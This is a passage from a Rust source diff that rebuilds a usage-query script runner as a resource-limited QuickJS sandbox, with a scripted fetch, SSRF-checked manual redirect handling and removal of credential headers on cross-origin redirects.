@@ -1,11 +1,148 @@
-use rquickjs::{Context, Function, Runtime};
-use serde_json::Value;
+use rquickjs::{Context, Ctx, Function, Object, Runtime};
+use serde_json::{json, Value};
+use std::cell::{Cell, RefCell};
 use std::collections::HashMap;
+use std::rc::Rc;
+use std::time::{Duration, Instant};
 use url::{Host, Url};
 
 use crate::cc_switch::error::AppError;
 
+/// 用量脚本沙箱的资源限制
+#[derive(Debug, Clone, Copy)]
+pub(crate) struct SandboxLimits {
+    /// QuickJS 堆内存上限（字节）
+    pub memory_bytes: usize,
+    /// QuickJS 栈大小上限（字节）
+    pub stack_bytes: usize,
+    /// 脚本自身的执行时间预算（不含等待网络响应的时间）
+    pub cpu_time: Duration,
+    /// 单次执行允许的 fetch 调用次数
+    pub max_fetches: usize,
+    /// 单个响应体的最大字节数
+    pub max_response_bytes: usize,
+    /// 保留的 console 输出行数
+    pub max_log_lines: usize,
+}
+
+impl Default for SandboxLimits {
+    fn default() -> Self {
+        Self {
+            memory_bytes: 32 * 1024 * 1024,
+            stack_bytes: 1024 * 1024,
+            cpu_time: Duration::from_secs(5),
+            max_fetches: 8,
+            max_response_bytes: 2 * 1024 * 1024,
+            max_log_lines: 200,
+        }
+    }
+}
+
+/// 单行 console 输出的最大字节数
+const MAX_LOG_LINE_BYTES: usize = 2000;
+
+/// 注入到沙箱中的运行时代码：console、fetch 以及结果收集
+///
+/// `fetch` 是对原生 `__usageNativeFetch` 的异步包装，原生函数在脚本线程上同步完成请求，
+/// 因此脚本可以用 `await` 串联登录、查询等多步请求。
+const SANDBOX_PRELUDE: &str = r#"
+(() => {
+  const nativeFetch = globalThis.__usageNativeFetch;
+  const nativeLog = globalThis.__usageNativeLog;
+  delete globalThis.__usageNativeFetch;
+  delete globalThis.__usageNativeLog;
+
+  const format = (value) => {
+    if (typeof value === "string") return value;
+    if (value instanceof Error) return `${value.name}: ${value.message}`;
+    try {
+      const text = JSON.stringify(value);
+      return text === undefined ? String(value) : text;
+    } catch (_) {
+      return String(value);
+    }
+  };
+  const logger = (level) => (...args) => nativeLog(level, args.map(format).join(" "));
+  globalThis.console = {
+    log: logger("log"),
+    info: logger("info"),
+    warn: logger("warn"),
+    error: logger("error"),
+    debug: logger("debug"),
+  };
+
+  globalThis.fetch = async (input, init) => {
+    const options = init || {};
+    let body = options.body;
+    if (body !== undefined && body !== null && typeof body !== "string") {
+      body = JSON.stringify(body);
+    }
+    const raw = JSON.parse(
+      nativeFetch(
+        String(input),
+        JSON.stringify({
+          method: options.method || "GET",
+          headers: options.headers || {},
+          body: body === undefined ? null : body,
+        }),
+      ),
+    );
+    if (raw.error) throw new Error(raw.error);
+    return {
+      status: raw.status,
+      ok: raw.status >= 200 && raw.status < 300,
+      url: raw.url,
+      headers: {
+        get: (name) => {
+          const value = raw.headers[String(name).toLowerCase()];
+          return value === undefined ? null : value;
+        },
+        has: (name) => String(name).toLowerCase() in raw.headers,
+        entries: () => Object.entries(raw.headers),
+      },
+      text: async () => raw.body,
+      json: async () => JSON.parse(raw.body),
+    };
+  };
+
+  const outcome = { done: false, json: undefined, error: undefined };
+  globalThis.__usageOutcome = outcome;
+  globalThis.__usageStart = (target, method, arg) => {
+    let pending;
+    try {
+      pending = Promise.resolve(target[method](arg));
+    } catch (e) {
+      pending = Promise.reject(e);
+    }
+    pending
+      .then((value) => {
+        outcome.json = JSON.stringify(value === undefined ? null : value);
+      })
+      .catch((e) => {
+        outcome.error = format(e);
+      })
+      .finally(() => {
+        outcome.done = true;
+      });
+  };
+})();
+"#;
+
+/// 用量脚本的执行结果与脚本的 console 输出
+#[derive(Debug)]
+pub struct UsageScriptOutput {
+    pub result: Result<Value, AppError>,
+    pub logs: Vec<String>,
+}
+
 /// 执行用量查询脚本
+///
+/// 脚本有两种写法：
+/// - `{ request, extractor }`：由宿主发送 `request`，再把响应 JSON 交给 `extractor`；
+/// - `{ run }`：`run` 可以是 async 函数，通过全局 `fetch` 自行完成多步请求。
+///
+/// `fetch` 只能访问 base_url 同源地址（自定义模板模式下为任意公网地址），
+/// `extractor` 和 `run` 都可以返回 Promise。
 pub async fn execute_usage_script(
     script_code: &str,
     api_key: &str,
@@ -14,7 +151,7 @@ pub async fn execute_usage_script(
     access_token: Option<&str>,
     user_id: Option<&str>,
     template_type: Option<&str>,
-) -> Result<Value, AppError> {
+) -> UsageScriptOutput {
     // 检测是否为自定义模板模式
     // 优先使用前端传递的 template_type
     let is_custom_template = template_type.map(|t| t == "custom").unwrap_or(false);
@@ -26,249 +163,530 @@ pub async fn execute_usage_script(
     // 2. 验证 base_url 的安全性（仅当提供了 base_url 时）
     // 自定义模板模式下，用户可能不使用模板变量，而是直接在脚本中写完整 URL
     if !base_url.is_empty() {
-        validate_base_url(base_url)?;
+        if let Err(e) = validate_base_url(base_url) {
+            return UsageScriptOutput {
+                result: Err(e),
+                logs: Vec::new(),
+            };
+        }
     }
 
-    // 3. 在独立作用域中提取 request 配置（确保 Runtime/Context 在 await 前释放）
-    let request_config = {
-        let runtime = Runtime::new().map_err(|e| {
-            AppError::localized(
-                "usage_script.runtime_create_failed",
-                format!("创建 JS 运行时失败: {e}"),
-                format!("Failed to create JS runtime: {e}"),
-            )
-        })?;
-        let context = Context::full(&runtime).map_err(|e| {
-            AppError::localized(
-                "usage_script.context_create_failed",
-                format!("创建 JS 上下文失败: {e}"),
-                format!("Failed to create JS context: {e}"),
-            )
-        })?;
+    let env = ScriptEnv {
+        base_url: base_url.to_string(),
+        is_custom_template,
+        // 约束超时范围，防止异常配置导致长时间阻塞（最小 2 秒，最大 30 秒）
+        request_timeout: Duration::from_secs(timeout_secs.clamp(2, 30)),
+        limits: SandboxLimits::default(),
+        handle: tokio::runtime::Handle::current(),
+    };
 
-        context.with(|ctx| {
-            // 执行用户代码，获取配置对象
-            let config: rquickjs::Object = ctx.eval(script_with_vars.clone()).map_err(|e| {
-                AppError::localized(
-                    "usage_script.config_parse_failed",
-                    format!("解析配置失败: {e}"),
-                    format!("Failed to parse config: {e}"),
-                )
-            })?;
+    run_script(script_with_vars, env).await
+}
 
-            // 提取 request 配置
-            let request: rquickjs::Object = config.get("request").map_err(|e| {
-                AppError::localized(
-                    "usage_script.request_missing",
-                    format!("缺少 request 配置: {e}"),
-                    format!("Missing request config: {e}"),
-                )
-            })?;
+/// 沙箱执行环境
+struct ScriptEnv {
+    base_url: String,
+    is_custom_template: bool,
+    request_timeout: Duration,
+    limits: SandboxLimits,
+    handle: tokio::runtime::Handle,
+}
 
-            // 将 request 转换为 JSON 字符串
-            let request_json: String = ctx
-                .json_stringify(request)
-                .map_err(|e| {
-                    AppError::localized(
-                        "usage_script.request_serialize_failed",
-                        format!("序列化 request 失败: {e}"),
-                        format!("Failed to serialize request: {e}"),
-                    )
-                })?
-                .ok_or_else(|| {
-                    AppError::localized(
-                        "usage_script.serialize_none",
-                        "序列化返回 None",
-                        "Serialization returned None",
-                    )
-                })?
-                .get()
-                .map_err(|e| {
-                    AppError::localized(
-                        "usage_script.get_string_failed",
-                        format!("获取字符串失败: {e}"),
-                        format!("Failed to get string: {e}"),
-                    )
-                })?;
+impl ScriptEnv {
+    /// 检查 URL 是否在 fetch 白名单内
+    fn check_url(&self, url: &str) -> Result<(), AppError> {
+        validate_request_url(url, &self.base_url, self.is_custom_template)
+    }
+}
 
-            Ok::<_, AppError>(request_json)
-        })?
-    }; // Runtime 和 Context 在这里被 drop
+/// 在阻塞线程中运行脚本（QuickJS 运行时不能跨 await 持有）
+async fn run_script(script: String, env: ScriptEnv) -> UsageScriptOutput {
+    tokio::task::spawn_blocking(move || {
+        let logs = Rc::new(RefCell::new(Vec::new()));
+        let result = run_in_sandbox(&script, &env, &logs);
+        let logs = std::mem::take(&mut *logs.borrow_mut());
+        UsageScriptOutput { result, logs }
+    })
+    .await
+    .unwrap_or_else(|e| UsageScriptOutput {
+        result: Err(AppError::localized(
+            "usage_script.task_failed",
+            format!("脚本执行任务异常: {e}"),
+            format!("Script task failed: {e}"),
+        )),
+        logs: Vec::new(),
+    })
+}
+
+/// 脚本执行失败时的错误键与提示
+type EntryFailure = (&'static str, (&'static str, &'static str));
+
+const CONFIG_PARSE_FAILED: EntryFailure = (
+    "usage_script.config_parse_failed",
+    ("解析配置失败", "Failed to parse config"),
+);
+
+const RUN_FAILED: EntryFailure = (
+    "usage_script.run_exec_failed",
+    ("执行 run 失败", "Failed to execute run"),
+);
+
+const EXTRACTOR_FAILED: EntryFailure = (
+    "usage_script.extractor_exec_failed",
+    ("执行 extractor 失败", "Failed to execute extractor"),
+);
+
+/// 脚本入口
+enum ScriptEntry {
+    /// 旧版 `{ request, extractor }`，携带序列化后的 request
+    Request(String),
+    /// `{ run }`，已开始执行
+    Run,
+}
 
-    // 4. 解析 request 配置
-    let request: RequestConfig = serde_json::from_str(&request_config).map_err(|e| {
+fn run_in_sandbox(
+    script: &str,
+    env: &ScriptEnv,
+    logs: &Rc<RefCell<Vec<String>>>,
+) -> Result<Value, AppError> {
+    // 1. 创建带资源限制的运行时
+    let runtime = Runtime::new().map_err(|e| {
         AppError::localized(
-            "usage_script.request_format_invalid",
-            format!("request 配置格式错误: {e}"),
-            format!("Invalid request config format: {e}"),
+            "usage_script.runtime_create_failed",
+            format!("创建 JS 运行时失败: {e}"),
+            format!("Failed to create JS runtime: {e}"),
         )
     })?;
+    runtime.set_memory_limit(env.limits.memory_bytes);
+    runtime.set_max_stack_size(env.limits.stack_bytes);
 
-    // 5. 验证请求 URL 是否安全（防止 SSRF）
-    // 如果提供了 base_url，则验证同源；否则只做基本安全检查
-    validate_request_url(&request.url, base_url, is_custom_template)?;
+    // 等待网络的时间会顺延截止时间，只限制脚本自身的执行时间
+    let deadline = Rc::new(Cell::new(Instant::now() + env.limits.cpu_time));
+    {
+        let deadline = deadline.clone();
+        runtime.set_interrupt_handler(Some(Box::new(move || Instant::now() > deadline.get())));
+    }
+
+    let context = Context::full(&runtime).map_err(|e| {
+        AppError::localized(
+            "usage_script.context_create_failed",
+            format!("创建 JS 上下文失败: {e}"),
+            format!("Failed to create JS context: {e}"),
+        )
+    })?;
 
-    // 6. 发送 HTTP 请求
-    let response_data = send_http_request(&request, timeout_secs).await?;
+    let timed_out = || Instant::now() > deadline.get();
+    let fetch_count = Rc::new(Cell::new(0usize));
 
-    // 7. 在独立作用域中执行 extractor（确保 Runtime/Context 在函数结束前释放）
-    let result: Value = {
-        let runtime = Runtime::new().map_err(|e| {
+    // 2. 注入 console/fetch，执行用户代码并确定入口
+    let entry = context.with(|ctx| {
+        install_sandbox(&ctx, env, logs, &deadline, &fetch_count).map_err(|e| {
             AppError::localized(
-                "usage_script.runtime_create_failed",
-                format!("创建 JS 运行时失败: {e}"),
-                format!("Failed to create JS runtime: {e}"),
+                "usage_script.sandbox_init_failed",
+                format!("初始化脚本沙箱失败: {e}"),
+                format!("Failed to initialize script sandbox: {e}"),
             )
         })?;
-        let context = Context::full(&runtime).map_err(|e| {
+
+        let config: Object = ctx.eval(script).map_err(|e| {
+            let msg = exception_message(&ctx, e);
+            script_error(timed_out(), &env.limits, &msg, CONFIG_PARSE_FAILED)
+        })?;
+        ctx.globals()
+            .set("__usageConfig", config.clone())
+            .map_err(|e| AppError::Message(e.to_string()))?;
+
+        if config.contains_key("request").unwrap_or(false) {
+            // 提取 request 配置并转换为 JSON 字符串
+            let request_json: String = ctx
+                .eval("JSON.stringify(globalThis.__usageConfig.request)")
+                .map_err(|e| {
+                    let msg = exception_message(&ctx, e);
+                    AppError::localized(
+                        "usage_script.request_serialize_failed",
+                        format!("序列化 request 失败: {msg}"),
+                        format!("Failed to serialize request: {msg}"),
+                    )
+                })?;
+            return Ok(ScriptEntry::Request(request_json));
+        }
+
+        let run: rquickjs::Value = config.get("run").map_err(|e| {
             AppError::localized(
-                "usage_script.context_create_failed",
-                format!("创建 JS 上下文失败: {e}"),
-                format!("Failed to create JS context: {e}"),
+                "usage_script.config_parse_failed",
+                format!("解析配置失败: {e}"),
+                format!("Failed to parse config: {e}"),
             )
         })?;
+        if !run.is_function() {
+            return Err(AppError::localized(
+                "usage_script.entry_missing",
+                "脚本必须提供 request + extractor 或 run 函数",
+                "Script must provide request + extractor or a run function",
+            ));
+        }
+        let arg = rquickjs::Value::new_undefined(ctx.clone());
+        start_entry(&ctx, config, "run", arg)
+            .map_err(|msg| script_error(timed_out(), &env.limits, &msg, RUN_FAILED))?;
+        Ok(ScriptEntry::Run)
+    })?;
 
-        context.with(|ctx| {
-            // 重新 eval 获取配置对象
-            let config: rquickjs::Object = ctx.eval(script_with_vars.clone()).map_err(|e| {
+    let failure = match entry {
+        // 3. 旧版写法：由宿主发送请求，再调用 extractor
+        ScriptEntry::Request(request_json) => {
+            let request: RequestConfig = serde_json::from_str(&request_json).map_err(|e| {
                 AppError::localized(
-                    "usage_script.config_reparse_failed",
-                    format!("重新解析配置失败: {e}"),
-                    format!("Failed to re-parse config: {e}"),
+                    "usage_script.request_format_invalid",
+                    format!("request 配置格式错误: {e}"),
+                    format!("Invalid request config format: {e}"),
                 )
             })?;
 
-            // 提取 extractor 函数
-            let extractor: Function = config.get("extractor").map_err(|e| {
-                AppError::localized(
-                    "usage_script.extractor_missing",
-                    format!("缺少 extractor 函数: {e}"),
-                    format!("Missing extractor function: {e}"),
-                )
-            })?;
+            // 验证请求 URL 是否安全（防止 SSRF）
+            // 如果提供了 base_url，则验证同源；否则只做基本安全检查
+            env.check_url(&request.url)?;
 
-            // 将响应数据转换为 JS 值
-            let response_js: rquickjs::Value =
-                ctx.json_parse(response_data.as_str()).map_err(|e| {
-                    AppError::localized(
-                        "usage_script.response_parse_failed",
-                        format!("解析响应 JSON 失败: {e}"),
-                        format!("Failed to parse response JSON: {e}"),
-                    )
-                })?;
+            let started = Instant::now();
+            let response = env.handle.block_on(send_http_request(
+                &request,
+                env.request_timeout,
+                env.limits.max_response_bytes,
+                &|url| env.check_url(url),
+            ));
+            deadline.set(deadline.get() + started.elapsed());
+            let response_data = response?;
 
-            // 调用 extractor(response)
-            let result_js: rquickjs::Value = extractor.call((response_js,)).map_err(|e| {
-                AppError::localized(
-                    "usage_script.extractor_exec_failed",
-                    format!("执行 extractor 失败: {e}"),
-                    format!("Failed to execute extractor: {e}"),
-                )
-            })?;
+            context.with(|ctx| {
+                let config: Object = ctx
+                    .globals()
+                    .get("__usageConfig")
+                    .map_err(|e| AppError::Message(e.to_string()))?;
 
-            // 转换为 JSON 字符串
-            let result_json: String = ctx
-                .json_stringify(result_js)
-                .map_err(|e| {
-                    AppError::localized(
-                        "usage_script.result_serialize_failed",
-                        format!("序列化结果失败: {e}"),
-                        format!("Failed to serialize result: {e}"),
-                    )
-                })?
-                .ok_or_else(|| {
-                    AppError::localized(
-                        "usage_script.serialize_none",
-                        "序列化返回 None",
-                        "Serialization returned None",
-                    )
-                })?
-                .get()
-                .map_err(|e| {
+                let extractor: rquickjs::Value = config.get("extractor").map_err(|e| {
                     AppError::localized(
-                        "usage_script.get_string_failed",
-                        format!("获取字符串失败: {e}"),
-                        format!("Failed to get string: {e}"),
+                        "usage_script.extractor_missing",
+                        format!("缺少 extractor 函数: {e}"),
+                        format!("Missing extractor function: {e}"),
                     )
                 })?;
+                if !extractor.is_function() {
+                    return Err(AppError::localized(
+                        "usage_script.extractor_missing",
+                        "缺少 extractor 函数",
+                        "Missing extractor function",
+                    ));
+                }
+
+                // 将响应数据转换为 JS 值
+                let response_js: rquickjs::Value =
+                    ctx.json_parse(response_data.as_str()).map_err(|e| {
+                        let msg = exception_message(&ctx, e);
+                        AppError::localized(
+                            "usage_script.response_parse_failed",
+                            format!("解析响应 JSON 失败: {msg}"),
+                            format!("Failed to parse response JSON: {msg}"),
+                        )
+                    })?;
+
+                start_entry(&ctx, config, "extractor", response_js)
+                    .map_err(|msg| script_error(timed_out(), &env.limits, &msg, EXTRACTOR_FAILED))
+            })?;
+            EXTRACTOR_FAILED
+        }
+        ScriptEntry::Run => RUN_FAILED,
+    };
+
+    // 4. 驱动 Promise 任务队列直到脚本完成
+    let mut job_error = None;
+    loop {
+        match runtime.execute_pending_job() {
+            Ok(true) => {}
+            Ok(false) => break,
+            Err(e) => {
+                job_error = Some(e.to_string());
+                break;
+            }
+        }
+    }
 
-            // 解析为 serde_json::Value
-            serde_json::from_str(&result_json).map_err(|e| {
-                AppError::localized(
-                    "usage_script.json_parse_failed",
-                    format!("JSON 解析失败: {e}"),
-                    format!("JSON parse failed: {e}"),
-                )
-            })
-        })?
-    }; // Runtime 和 Context 在这里被 drop
+    // 5. 读取结果
+    let outcome = context.with(|ctx| {
+        let outcome: Object = ctx.globals().get("__usageOutcome")?;
+        let done: bool = outcome.get("done")?;
+        let json: Option<String> = outcome.get("json")?;
+        let error: Option<String> = outcome.get("error")?;
+        Ok::<_, rquickjs::Error>((done, json, error))
+    });
+    let (done, json, error) = outcome.map_err(|e| AppError::Message(e.to_string()))?;
+
+    let result_json = match (done, json, error) {
+        (true, Some(json), None) => json,
+        (true, _, error) => {
+            let msg = error.unwrap_or_else(|| "undefined".to_string());
+            return Err(script_error(timed_out(), &env.limits, &msg, failure));
+        }
+        (false, _, _) => {
+            let msg = job_error.unwrap_or_else(|| "脚本返回的 Promise 未完成".to_string());
+            return Err(script_error(timed_out(), &env.limits, &msg, failure));
+        }
+    };
 
-    // 8. 验证返回值格式
+    // 6. 解析为 serde_json::Value 并验证返回值格式
+    let result: Value = serde_json::from_str(&result_json).map_err(|e| {
+        AppError::localized(
+            "usage_script.json_parse_failed",
+            format!("JSON 解析失败: {e}"),
+            format!("JSON parse failed: {e}"),
+        )
+    })?;
     validate_result(&result)?;
 
     Ok(result)
 }
 
-/// 请求配置结构
+/// 调用 `target[method](arg)`，结果写入 `__usageOutcome`
+///
+/// 脚本中可捕获的异常会转为 Promise 拒绝，这里只返回中断等不可捕获的异常信息。
+fn start_entry<'js>(
+    ctx: &Ctx<'js>,
+    target: Object<'js>,
+    method: &str,
+    arg: rquickjs::Value<'js>,
+) -> Result<(), String> {
+    let start: Function = ctx
+        .globals()
+        .get("__usageStart")
+        .map_err(|e| e.to_string())?;
+    start
+        .call::<_, ()>((target, method, arg))
+        .map_err(|e| exception_message(ctx, e))
+}
+
+/// 注入 console 与 fetch
+fn install_sandbox<'js>(
+    ctx: &Ctx<'js>,
+    env: &ScriptEnv,
+    logs: &Rc<RefCell<Vec<String>>>,
+    deadline: &Rc<Cell<Instant>>,
+    fetch_count: &Rc<Cell<usize>>,
+) -> rquickjs::Result<()> {
+    let globals = ctx.globals();
+
+    let log_sink = logs.clone();
+    let max_lines = env.limits.max_log_lines;
+    globals.set(
+        "__usageNativeLog",
+        Function::new(ctx.clone(), move |level: String, message: String| {
+            push_log(&mut log_sink.borrow_mut(), max_lines, &level, &message);
+        })?,
+    )?;
+
+    let policy = FetchPolicy {
+        base_url: env.base_url.clone(),
+        is_custom_template: env.is_custom_template,
+        request_timeout: env.request_timeout,
+        max_fetches: env.limits.max_fetches,
+        max_response_bytes: env.limits.max_response_bytes,
+        handle: env.handle.clone(),
+    };
+    let deadline = deadline.clone();
+    let fetch_count = fetch_count.clone();
+    globals.set(
+        "__usageNativeFetch",
+        Function::new(ctx.clone(), move |url: String, init: String| {
+            match policy.fetch(&url, &init, &deadline, &fetch_count) {
+                Ok(response) => response.to_string(),
+                Err(e) => json!({ "error": e.to_string() }).to_string(),
+            }
+        })?,
+    )?;
+
+    ctx.eval::<(), _>(SANDBOX_PRELUDE)
+}
+
+/// 记录一行 console 输出
+fn push_log(logs: &mut Vec<String>, max_lines: usize, level: &str, message: &str) {
+    if logs.len() > max_lines {
+        return;
+    }
+    if logs.len() == max_lines {
+        logs.push("[warn] 输出过多，后续内容已省略".to_string());
+        return;
+    }
+
+    let mut line = format!("[{level}] {message}");
+    if line.len() > MAX_LOG_LINE_BYTES {
+        let mut cut = MAX_LOG_LINE_BYTES;
+        while !line.is_char_boundary(cut) {
+            cut -= 1;
+        }
+        line.truncate(cut);
+        line.push_str("...");
+    }
+    log::debug!("[UsageScript] {line}");
+    logs.push(line);
+}
+
+/// 脚本内 fetch 的访问策略
+///
+/// 白名单由 base_url 推导：只允许访问与 base_url 同源的地址；
+/// 自定义模板模式下允许任意公网地址（仍禁止私有 IP）。
+struct FetchPolicy {
+    base_url: String,
+    is_custom_template: bool,
+    request_timeout: Duration,
+    max_fetches: usize,
+    max_response_bytes: usize,
+    handle: tokio::runtime::Handle,
+}
+
+/// fetch 的第二个参数
 #[derive(Debug, serde::Deserialize)]
-struct RequestConfig {
-    url: String,
-    method: String,
+struct FetchInit {
+    #[serde(default)]
+    method: Option<String>,
     #[serde(default)]
     headers: HashMap<String, String>,
     #[serde(default)]
     body: Option<String>,
 }
 
-/// 发送 HTTP 请求
-async fn send_http_request(config: &RequestConfig, timeout_secs: u64) -> Result<String, AppError> {
-    // 使用全局 HTTP 客户端（已包含代理配置）
-    let client = crate::cc_switch::proxy::http_client::get();
-    // 约束超时范围，防止异常配置导致长时间阻塞（最小 2 秒，最大 30 秒）
-    let request_timeout = std::time::Duration::from_secs(timeout_secs.clamp(2, 30));
+impl FetchPolicy {
+    fn fetch(
+        &self,
+        url: &str,
+        init: &str,
+        deadline: &Cell<Instant>,
+        fetch_count: &Cell<usize>,
+    ) -> Result<Value, AppError> {
+        let count = fetch_count.get() + 1;
+        if count > self.max_fetches {
+            return Err(AppError::localized(
+                "usage_script.fetch_limit_exceeded",
+                format!("fetch 调用次数超过上限 {}", self.max_fetches),
+                format!("fetch call limit of {} exceeded", self.max_fetches),
+            ));
+        }
+        fetch_count.set(count);
 
-    // 严格校验 HTTP 方法，非法值不回退为 GET
-    let method: reqwest::Method = config.method.parse().map_err(|_| {
-        AppError::localized(
-            "usage_script.invalid_http_method",
-            format!("不支持的 HTTP 方法: {}", config.method),
-            format!("Unsupported HTTP method: {}", config.method),
-        )
-    })?;
+        let init: FetchInit = serde_json::from_str(init).map_err(|e| {
+            AppError::localized(
+                "usage_script.fetch_init_invalid",
+                format!("fetch 参数格式错误: {e}"),
+                format!("Invalid fetch options: {e}"),
+            )
+        })?;
+        let request = RequestConfig {
+            url: url.to_string(),
+            method: init.method.unwrap_or_else(|| "GET".to_string()),
+            headers: init.headers,
+            body: init.body,
+        };
 
-    let mut req = client
-        .request(method.clone(), &config.url)
-        .timeout(request_timeout);
+        let check_url =
+            |url: &str| validate_request_url(url, &self.base_url, self.is_custom_template);
+        check_url(&request.url)?;
 
-    // 添加请求头
-    for (k, v) in &config.headers {
-        req = req.header(k, v);
+        let started = Instant::now();
+        let response = self.handle.block_on(fetch_response(
+            &request,
+            self.request_timeout,
+            self.max_response_bytes,
+            &check_url,
+        ));
+        deadline.set(deadline.get() + started.elapsed());
+        let response = response?;
+
+        Ok(json!({
+            "status": response.status,
+            "url": response.url,
+            "headers": response.headers,
+            "body": response.body,
+        }))
     }
+}
 
-    // 添加请求体
-    if let Some(body) = &config.body {
-        req = req.body(body.clone());
+/// 将脚本异常转换为错误，超时与内存超限单独提示
+fn script_error(
+    timed_out: bool,
+    limits: &SandboxLimits,
+    msg: &str,
+    (key, (zh, en)): EntryFailure,
+) -> AppError {
+    if timed_out {
+        let secs = limits.cpu_time.as_secs_f64();
+        return AppError::localized(
+            "usage_script.timeout",
+            format!("脚本执行超时（超过 {secs} 秒）"),
+            format!("Script execution timed out (over {secs}s)"),
+        );
+    }
+    if msg.contains("out of memory") {
+        let mb = limits.memory_bytes / (1024 * 1024);
+        return AppError::localized(
+            "usage_script.memory_limit",
+            format!("脚本内存超出上限（{mb} MB）"),
+            format!("Script exceeded memory limit ({mb} MB)"),
+        );
     }
+    AppError::localized(key, format!("{zh}: {msg}"), format!("{en}: {msg}"))
+}
 
-    // 发送请求
-    let resp = req.send().await.map_err(|e| {
-        AppError::localized(
-            "usage_script.request_failed",
-            format!("请求失败: {e}"),
-            format!("Request failed: {e}"),
-        )
-    })?;
+/// 提取 QuickJS 异常的可读信息
+fn exception_message(ctx: &Ctx<'_>, err: rquickjs::Error) -> String {
+    if !matches!(err, rquickjs::Error::Exception) {
+        return err.to_string();
+    }
+    let value = ctx.catch();
+    if let Some(obj) = value.as_object() {
+        let name: Option<String> = obj.get("name").ok();
+        let message: Option<String> = obj.get("message").ok();
+        if let Some(message) = message {
+            return match name {
+                Some(name) => format!("{name}: {message}"),
+                None => message,
+            };
+        }
+    }
+    if let Some(s) = value.as_string().and_then(|s| s.to_string().ok()) {
+        return s;
+    }
+    format!("{value:?}")
+}
 
-    let status = resp.status();
-    let text = resp.text().await.map_err(|e| {
-        AppError::localized(
-            "usage_script.read_response_failed",
-            format!("读取响应失败: {e}"),
-            format!("Failed to read response: {e}"),
-        )
-    })?;
+/// 请求配置结构
+#[derive(Debug, serde::Deserialize)]
+struct RequestConfig {
+    url: String,
+    method: String,
+    #[serde(default)]
+    headers: HashMap<String, String>,
+    #[serde(default)]
+    body: Option<String>,
+}
+
+/// HTTP 响应
+struct HttpResponse {
+    status: u16,
+    url: String,
+    headers: HashMap<String, String>,
+    body: String,
+}
 
-    if !status.is_success() {
+/// 发送 HTTP 请求（旧版 request 写法），非 2xx 视为失败
+async fn send_http_request(
+    config: &RequestConfig,
+    timeout: Duration,
+    max_bytes: usize,
+    check_url: &dyn Fn(&str) -> Result<(), AppError>,
+) -> Result<String, AppError> {
+    let response = fetch_response(config, timeout, max_bytes, check_url).await?;
+    let text = response.body;
+
+    if !(200..300).contains(&response.status) {
+        let status = reqwest::StatusCode::from_u16(response.status)
+            .map(|s| s.to_string())
+            .unwrap_or_else(|_| response.status.to_string());
         let preview = if text.len() > 200 {
             let mut safe_cut = 200usize;
             while !text.is_char_boundary(safe_cut) {
@@ -288,6 +706,153 @@ async fn send_http_request(config: &RequestConfig, timeout_secs: u64) -> Result<
     Ok(text)
 }
 
+/// 单次请求最多跟随的重定向次数
+const MAX_REDIRECTS: usize = 10;
+
+/// 跨域重定向时不再携带的敏感请求头
+const SENSITIVE_HEADERS: [&str; 3] = ["authorization", "cookie", "proxy-authorization"];
+
+/// 发送 HTTP 请求并读取响应（限制响应体大小）
+///
+/// 重定向由此处手动跟随：每一跳的目标地址都先经过 `check_url` 校验再发起请求，
+/// 避免被重定向到白名单之外的内网地址（SSRF）。
+async fn fetch_response(
+    config: &RequestConfig,
+    timeout: Duration,
+    max_bytes: usize,
+    check_url: &dyn Fn(&str) -> Result<(), AppError>,
+) -> Result<HttpResponse, AppError> {
+    // 使用不自动跟随重定向的客户端（代理配置与全局客户端一致）
+    let client =
+        crate::cc_switch::proxy::http_client::get_without_redirects().map_err(AppError::Message)?;
+
+    // 严格校验 HTTP 方法，非法值不回退为 GET
+    let mut method: reqwest::Method = config.method.parse().map_err(|_| {
+        AppError::localized(
+            "usage_script.invalid_http_method",
+            format!("不支持的 HTTP 方法: {}", config.method),
+            format!("Unsupported HTTP method: {}", config.method),
+        )
+    })?;
+    let origin = Url::parse(&config.url).map_err(|e| {
+        AppError::localized(
+            "usage_script.request_url_invalid",
+            format!("无效的请求 URL: {e}"),
+            format!("Invalid request URL: {e}"),
+        )
+    })?;
+    let mut url = origin.clone();
+    let mut body = config.body.clone();
+    let mut redirects = 0;
+
+    let mut resp = loop {
+        let mut req = client.request(method.clone(), url.clone()).timeout(timeout);
+
+        // 添加请求头（跨域跳转后去掉认证类请求头）
+        let same_origin = url.origin() == origin.origin();
+        for (k, v) in &config.headers {
+            if same_origin || !SENSITIVE_HEADERS.contains(&k.to_ascii_lowercase().as_str()) {
+                req = req.header(k, v);
+            }
+        }
+
+        // 添加请求体
+        if let Some(body) = &body {
+            req = req.body(body.clone());
+        }
+
+        // 发送请求
+        let resp = req.send().await.map_err(|e| {
+            AppError::localized(
+                "usage_script.request_failed",
+                format!("请求失败: {e}"),
+                format!("Request failed: {e}"),
+            )
+        })?;
+
+        let location = resp
+            .headers()
+            .get(reqwest::header::LOCATION)
+            .and_then(|v| v.to_str().ok());
+        let next = match location {
+            Some(location) if resp.status().is_redirection() => {
+                url.join(location).map_err(|e| {
+                    AppError::localized(
+                        "usage_script.redirect_invalid",
+                        format!("无效的重定向地址: {e}"),
+                        format!("Invalid redirect location: {e}"),
+                    )
+                })?
+            }
+            _ => break resp,
+        };
+
+        redirects += 1;
+        if redirects > MAX_REDIRECTS {
+            return Err(AppError::localized(
+                "usage_script.too_many_redirects",
+                format!("重定向次数超过上限 {MAX_REDIRECTS}"),
+                format!("Exceeded the limit of {MAX_REDIRECTS} redirects"),
+            ));
+        }
+        // 跳转目标必须在白名单内，校验通过后才发起下一次请求
+        check_url(next.as_str())?;
+
+        // 与浏览器一致：303 以及 POST 的 301/302 改为不带请求体的 GET
+        let status = resp.status();
+        if status == reqwest::StatusCode::SEE_OTHER
+            || (method == reqwest::Method::POST
+                && matches!(
+                    status,
+                    reqwest::StatusCode::MOVED_PERMANENTLY | reqwest::StatusCode::FOUND
+                ))
+        {
+            method = reqwest::Method::GET;
+            body = None;
+        }
+        url = next;
+    };
+
+    let status = resp.status().as_u16();
+    let url = resp.url().to_string();
+    let mut headers: HashMap<String, String> = HashMap::new();
+    for (name, value) in resp.headers() {
+        let value = String::from_utf8_lossy(value.as_bytes()).into_owned();
+        headers
+            .entry(name.as_str().to_string())
+            .and_modify(|v| {
+                v.push_str(", ");
+                v.push_str(&value);
+            })
+            .or_insert(value);
+    }
+
+    let mut body = Vec::new();
+    while let Some(chunk) = resp.chunk().await.map_err(|e| {
+        AppError::localized(
+            "usage_script.read_response_failed",
+            format!("读取响应失败: {e}"),
+            format!("Failed to read response: {e}"),
+        )
+    })? {
+        if body.len() + chunk.len() > max_bytes {
+            return Err(AppError::localized(
+                "usage_script.response_too_large",
